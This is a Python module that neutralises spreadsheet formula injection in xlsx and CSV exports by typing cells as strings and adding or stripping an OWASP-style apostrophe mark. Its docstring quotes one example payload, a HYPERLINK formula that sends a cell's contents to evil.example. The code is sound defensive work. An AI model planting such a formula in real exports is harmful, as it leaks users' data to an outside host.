"""User text in exported spreadsheets stays text (no formula runs) and reads back
unchanged: the one place every xlsx and CSV writer goes through.

xlsx: openpyxl turns any string starting with ``=`` into a formula, which a
spreadsheet runs (``=HYPERLINK("http://evil.example/?d="&A2, …)``) and which
reads back as an empty cell. Typing every string cell as a string (``"s"``)
stores the characters as they are.

CSV has no cell types, so per OWASP a text starting with ``= + - @``, tab or
carriage return gets a leading apostrophe, which spreadsheets show as a text
marker. :func:`csv_text_in` removes exactly that apostrophe on import. A text
that itself starts with an apostrophe before one of those characters (or
another apostrophe) gets one too, so every text round-trips.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = frozenset("=+-@\t\r")
CSV_TEXT_MARK = "'"


def xlsx_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: a string as a string cell, never a
    formula; other values as they are."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell  # openpyxl only when writing xlsx

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # after the value: assigning "=…" made it "f"
    return cell


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row with every string as text (see :func:`xlsx_cell`)."""
    sheet.append([xlsx_cell(sheet, v) for v in values])


def _marked(text: str) -> bool:
    """Would a spreadsheet read ``text`` as a formula, or could the mark be
    mistaken for one on import?"""
    if text[:1] in FORMULA_STARTS:
        return True
    return text[:1] == CSV_TEXT_MARK and (
        text[1:2] in FORMULA_STARTS or text[1:2] == CSV_TEXT_MARK
    )


def csv_text_out(text: str) -> str:
    """A text for a CSV cell: with the apostrophe mark when it needs one."""
    return CSV_TEXT_MARK + text if _marked(text) else text


def csv_text_in(text: str) -> str:
    """The text :func:`csv_text_out` was given (other texts unchanged)."""
    if text[:1] == CSV_TEXT_MARK and _marked(text[1:]):
        return text[1:]
    return text
